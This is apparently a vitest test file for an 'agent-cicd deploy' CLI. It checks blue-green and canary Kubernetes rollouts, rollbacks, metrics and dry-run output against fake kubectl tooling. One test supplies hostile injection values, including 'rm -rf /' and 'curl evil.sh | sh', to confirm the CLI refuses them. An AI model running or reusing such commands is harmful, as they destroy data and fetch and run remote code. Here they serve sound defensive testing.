import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deploymentManifest, httpRouteManifest, serviceManifest } from '@agent-cicd/deploy-gates/manifests';
import { AnalysisTemplate } from '@kubernetes-models/argo-rollouts/argoproj.io/v1alpha1/AnalysisTemplate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { runCli } from '../test-utils/run-cli.js';

const reports = fileURLToPath(new URL('../../../../fixtures/reports/', import.meta.url));
const gatesDir = dirname(createRequire(import.meta.url).resolve('@agent-cicd/deploy-gates/package.json'));
const digestA = `ghcr.io/acme/agent@sha256:${'a'.repeat(64)}`;
const digestB = `ghcr.io/acme/agent@sha256:${'b'.repeat(64)}`;

/** The deploy-gates fake kubectl/docker on a temp PATH (they record argv and simulate the cluster). */
async function fakeCluster(objects: Record<string, unknown>) {
  const dir = await mkdtemp(join(tmpdir(), 'agent-cicd-cli-fakes-'));
  for (const tool of ['kubectl', 'docker']) {
    const target = join(gatesDir, 'src/test-utils', `fake-${tool}.cjs`);
    await writeFile(join(dir, tool), `#!/usr/bin/env node\nrequire(${JSON.stringify(target)});\n`, { mode: 0o755 });
  }
  const state = join(dir, 'state.json');
  const log = join(dir, 'calls.jsonl');
  await writeFile(state, JSON.stringify({ objects, images: {}, failures: [] }));
  await writeFile(log, '');
  return {
    dir,
    env: { PATH: `${dir}${delimiter}${process.env.PATH ?? ''}`, FAKE_STATE_FILE: state, FAKE_LOG_FILE: log },
    async lines(): Promise<string[]> {
      return (await readFile(log, 'utf8'))
        .split('\n')
        .filter(Boolean)
        .map((line) => {
          const { tool, argv } = JSON.parse(line) as { tool: string; argv: string[] };
          return [
            tool,
            ...argv.filter(
              (_, i) =>
                !['-n', '--context'].includes(argv[i - 1] ?? '') && !['-n', '--context'].includes(argv[i] ?? ''),
            ),
          ].join(' ');
        });
    },
    async fail(match: string, stderr: string) {
      const current = JSON.parse(await readFile(state, 'utf8'));
      current.failures.push({ tool: 'kubectl', match, stderr });
      await writeFile(state, JSON.stringify(current));
    },
    async state() {
      type Seen = { spec: { template: { spec: { containers: { image: string }[] } } } };
      return JSON.parse(await readFile(state, 'utf8')) as { objects: Record<string, Seen> };
    },
  };
}
type FakeCluster = Awaited<ReturnType<typeof fakeCluster>>;

let cluster: FakeCluster;
beforeEach(async () => {
  const blue = deploymentManifest({
    name: 'agent-blue',
    labels: { app: 'agent', color: 'blue' },
    image: digestA,
    replicas: 2,
  });
  const stable = deploymentManifest({ name: 'agent', labels: { app: 'agent' }, image: digestA, replicas: 2 });
  cluster = await fakeCluster({
    'deployment/agent-blue': { ...blue, status: { replicas: 2, readyReplicas: 2 } },
    'service/agent': serviceManifest({ name: 'agent', selector: { app: 'agent', color: 'blue' } }),
    'deployment/agent': { ...stable, status: { replicas: 2, readyReplicas: 2 } },
    'httproute/agent': httpRouteManifest({
      name: 'agent',
      gateway: 'public',
      hostnames: ['agent.example.com'],
      stableService: 'agent',
    }),
  });
});
afterEach(() => rm(cluster.dir, { recursive: true, force: true }));

const cli = (args: string[]) => runCli(args, { cwd: reports, env: cluster.env });

// Each run spawns Node + tsx and then one node process per kubectl call: generous timeouts for loaded CI machines.
describe('agent-cicd deploy', { timeout: 120_000 }, () => {
  it('blue-green: switches, verifies, exits 0', async () => {
    const run = await cli([
      'deploy',
      'blue-green',
      '--app',
      'agent',
      '--image',
      digestB,
      '-n',
      'agents',
      '--context',
      'prod',
      '--replicas',
      '3',
    ]);
    expect(run.stdout).toBe('switched agent to green (verified)\n');
    expect(run.exitCode).toBe(0);
    expect(await cluster.lines()).toEqual([
      'kubectl get service agent -o json',
      'kubectl get deployment agent-blue -o json',
      'kubectl apply -f -',
      'kubectl rollout status deployment/agent-green --timeout=5m',
      'kubectl patch service agent --type=merge -p {"spec":{"selector":{"color":"green"}}}',
      'kubectl scale deployment/agent-blue --replicas=1',
      'kubectl get service agent -o json',
      'kubectl get deployment agent-green -o json',
      'kubectl get deployment agent-blue -o json',
    ]);
  });

  it('blue-green: a rollout-status timeout rolls back, is verified, exits 1, and writes the metrics', async () => {
    await cluster.fail('rollout status deployment/agent-green', 'error: timed out waiting for the condition');
    const metricsFile = join(cluster.dir, 'deploy.prom');
    const run = await cli([
      'deploy',
      'blue-green',
      '--app',
      'agent',
      '--image',
      digestB,
      '--timeout',
      '90s',
      '--metrics-file',
      metricsFile,
    ]);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(
      /^rolled back to blue after rollout failed: .*timed out waiting for the condition \(verified\)\n$/,
    );
    expect((await cluster.lines()).slice(3)).toEqual([
      'kubectl rollout status deployment/agent-green --timeout=90s',
      'kubectl scale deployment/agent-green --replicas=0',
      'kubectl get service agent -o json',
      'kubectl get deployment agent-blue -o json',
      'kubectl get deployment agent-green -o json',
    ]);
    const metrics = await readFile(metricsFile, 'utf8');
    expect(metrics).toContain('agent_deploys_total{app="agent",strategy="blue-green",outcome="rolled_back"} 1');
    expect(metrics).toContain('agent_deploy_success_rate{app="agent"} 0');
  });

  it('refuses injection attempts with one line and exit 2; kubectl never runs', async () => {
    // Every other name, namespace, context and timeout is refused the same way (see the deploy-gates tests).
    for (const args of [
      ['--app', 'agent; rm -rf /', '--image', digestB],
      ['--app', 'agent', '--image', 'agent:1 && curl evil.sh | sh', '-n', 'agents'],
      // Used to switch traffic first and fail afterwards (issue 10): now refused while planning.
      ['--app', 'agent', '--image', digestB, '--history-configmap', 'x; touch PWN'],
      ['--app', 'agent', '--image', digestB, '--smoke-url', 'http://agent.example.com/health\nX-Injected: 1'],
    ]) {
      const run = await cli(['deploy', 'blue-green', ...args]);
      expect(run.exitCode).toBe(2);
      expect(run.stderr).toMatch(/^error\[AGENT_CICD_DEPLOY_INVALID_INPUT\] invalid [^\n]*\n$/);
    }
    expect((await cluster.lines()).filter((l) => !l.includes(' get '))).toEqual([]);
  });

  it('canary (Gateway API): the gate rolls back at the first step; weight 0 and stable untouched', async () => {
    const run = await cli([
      'deploy',
      'canary',
      '--app',
      'agent',
      '--image',
      digestB,
      '--router',
      'gateway-api',
      '--steps',
      '10,50,100',
      '--baseline',
      'baseline.json',
      '--candidate',
      'candidate-rollback.json',
    ]);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/^rolled back agent \[10%:rollback\]: .* \(verified\)\n$/);
    const lines = await cluster.lines();
    // The guarded weight patches (prepare's add-backendRef patch has no test op): canary 10%, then back to 0.
    const weights = lines.filter((l) => l.includes('"op":"test"')).map((l) => /"value":(\d+)}\]$/.exec(l)?.[1]);
    expect(weights).toEqual(['10', '0']);
    expect(lines.at(-4)).toBe('kubectl scale deployment/agent-canary --replicas=0');
    const stable = (await cluster.state()).objects['deployment/agent'];
    expect(stable?.spec.template.spec.containers[0]?.image).toBe(digestA);
  });

  it('canary (ingress-nginx): the gate advances through every step and promotes', async () => {
    const run = await cli([
      'deploy',
      'canary',
      '--app',
      'agent',
      '--image',
      digestB,
      '--router',
      'nginx',
      '--host',
      'agent.example.com',
      '--steps',
      '25,100',
      '--baseline',
      'baseline.json',
      '--candidate',
      'candidate-promote.json',
      '--policy',
      'gates.yaml',
    ]);
    expect(run.stdout).toMatch(/^promoted .* to agent \[25%:advance 100%:promote\] \(verified\)\n$/);
    expect(run.exitCode).toBe(0);
    const annotations = (await cluster.lines()).filter((l) => l.includes(' annotate '));
    expect(annotations.map((l) => l.split(' ')[4])).toEqual([
      'nginx.ingress.kubernetes.io/canary-weight=25',
      'nginx.ingress.kubernetes.io/canary-weight=100',
      'nginx.ingress.kubernetes.io/canary-weight=0',
    ]);
  });

  it('canary --prometheus: live analysis reads both tracks from Prometheus and rolls back a failing canary', async () => {
    // A Prometheus API double over HTTP: between two reads the canary serves 200 requests (half of them 500s), the
    // stable track 2,000 (1% 500s); the newest sample is always fresh.
    const looks = { canary: 0, stable: 0 };
    const prometheus = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => {
        body += chunk;
      });
      request.on('end', () => {
        const query = new URLSearchParams(body).get('query') ?? '';
        const track = query.includes('track="canary"') ? 'canary' : 'stable';
        const now = Date.now() / 1000;
        const series = (status: string, value: number) => ({
          metric: { __name__: 'agent_http_requests_total', app: 'agent', track, route: '/v1/chat', status },
          value: [now, String(value)],
        });
        let result: unknown[];
        if (query.startsWith('max(timestamp(')) result = [{ metric: {}, value: [now, String(now)] }];
        else {
          const n = looks[track]++;
          result =
            track === 'canary'
              ? [series('200', n * 100), series('500', n * 100)]
              : [series('200', n * 1980), series('500', n * 20)];
        }
        response.setHeader('content-type', 'application/json');
        response.end(JSON.stringify({ status: 'success', data: { resultType: 'vector', result } }));
      });
    });
    await new Promise<void>((resolve) => prometheus.listen(0, '127.0.0.1', resolve));
    const { port } = prometheus.address() as AddressInfo;
    try {
      const run = await cli([
        'deploy',
        'canary',
        '--app',
        'agent',
        '--image',
        digestB,
        '--router',
        'gateway-api',
        '--steps',
        '10,100',
        '--baseline',
        'baseline.json',
        '--candidate',
        'candidate-promote.json',
        '--prometheus',
        `http://127.0.0.1:${port}`,
        '--hold-interval',
        '0s',
        '--step-budget',
        '2m',
      ]);
      expect(run.exitCode).toBe(1);
      // Counted from the counters read before traffic: the first look's evidence rolls the canary back at 10%.
      expect(run.stderr).toContain(
        '[canary] 10% (analysis 1): rollback - The canary fails more often than the stable release (50.0% vs 1.0% of requests)',
      );
      expect(run.stdout).toMatch(/^rolled back agent \[(10%:hold )*10%:rollback\]: .* \(verified\)\n$/);
      expect(looks.canary).toBeGreaterThanOrEqual(2);
      const lines = await cluster.lines();
      const weights = lines.filter((l) => l.includes('"op":"test"')).map((l) => /"value":(\d+)}\]$/.exec(l)?.[1]);
      expect(weights).toEqual(['10', '0']);
      // The rollout's status is recorded where `agent-cicd canary status` reads it.
      const objects = (await cluster.state()).objects as unknown as Record<string, { data?: Record<string, string> }>;
      const status = JSON.parse(objects['configmap/agent-releases-canary']?.data?.['status.json'] ?? '{}');
      expect(status).toMatchObject({ app: 'agent', state: 'rolled_back', weight: 10 });
      const stable = (await cluster.state()).objects['deployment/agent'];
      expect(stable?.spec.template.spec.containers[0]?.image).toBe(digestA);
    } finally {
      await new Promise((resolve) => prometheus.close(resolve));
    }
  });

  it('--dry-run prints the plan (every command, stdin as a here-document) and runs none', async () => {
    const run = await cli(['deploy', 'blue-green', '--app', 'agent', '--image', digestB, '-n', 'agents', '--dry-run']);
    expect(run.exitCode).toBe(0);
    const out = run.stdout.split('\n');
    expect(out[0]).toBe('plan: blue-green');
    expect(out).toContain('commands:');
    const applyAt = out.indexOf("  kubectl -n agents apply -f - <<'AGENT_CICD_EOF'");
    expect(applyAt).toBeGreaterThan(0);
    expect(JSON.parse(out[applyAt + 1] ?? '')).toMatchObject({ kind: 'Deployment', metadata: { name: 'agent-green' } });
    expect(out).toContain(
      `  kubectl -n agents patch service agent --type=merge -p '{"spec":{"selector":{"color":"green"}}}'`,
    );
    expect(out.at(-2)).toBe('dry-run: nothing was changed');
    expect(await cluster.lines()).toEqual([]);
  });

  it('invalid reports are refused before anything runs (exit 2)', async () => {
    const run = await cli([
      'deploy',
      'canary',
      '--app',
      'agent',
      '--image',
      digestB,
      '--baseline',
      'baseline.json',
      '--candidate',
      'invalid-report.json',
    ]);
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toMatch(/^error\[AGENT_CICD_REPORT_INVALID\] .*invalid-report\.json/);
    expect(await cluster.lines()).toEqual([]);
  });

  it('analysis-template prints an Argo Rollouts AnalysisTemplate that passes its schema', async () => {
    const run = await cli(['deploy', 'analysis-template', '--image', 'ghcr.io/acme/agent-cicd:0.1.0']);
    expect(run.exitCode).toBe(0);
    const template = parse(run.stdout);
    expect(template.kind).toBe('AnalysisTemplate');
    expect(() => new AnalysisTemplate(template).validate()).not.toThrow();
  });
});
